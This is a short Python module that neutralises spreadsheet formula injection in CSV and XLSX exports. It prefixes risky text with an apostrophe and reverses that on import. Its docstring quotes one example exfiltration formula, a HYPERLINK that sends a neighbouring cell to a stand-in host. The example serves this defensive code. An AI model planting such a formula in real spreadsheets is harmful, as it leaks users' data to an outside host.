"""Spreadsheet cells that can never run: the defence against formula injection.

Excel, LibreOffice and Google Sheets treat a cell that begins with `=`, `+`, `-`, `@`,
a tab or a carriage return as a formula, from a CSV as from typed text. A challenge
reading `=HYPERLINK("http://evil.example/?"&B2,"Evidence pack")` would become a live
link that sends the neighbouring cell away. Every CSV and XLSX the bot writes passes
its text through `safe_cell`, which puts an apostrophe in front (the usual defence:
spreadsheets show the text as written). `unsafe_cell` undoes it on import, so an
export re-imports to the identical plan; values that already begin with apostrophes
before such a character gain one more, so the pair is exact for every string.
Numbers and dates are values, not text, and pass through untouched.
"""

from __future__ import annotations

import re
from typing import TypeVar

FORMULA_START = re.compile(r"^'*[=+\-@\t\r]")
T = TypeVar("T")


def safe_cell(value: T) -> T | str:
    """`value`, or for text a spreadsheet would read as a formula, the text behind an
    apostrophe. Non-text values (numbers, dates, None) are returned as they are."""
    if isinstance(value, str) and FORMULA_START.match(value):
        return "'" + value
    return value


def unsafe_cell(value: T) -> T | str:
    """The text `safe_cell` was given: one apostrophe taken off where it added one."""
    if isinstance(value, str) and value.startswith("'") and FORMULA_START.match(value[1:]):
        return value[1:]
    return value
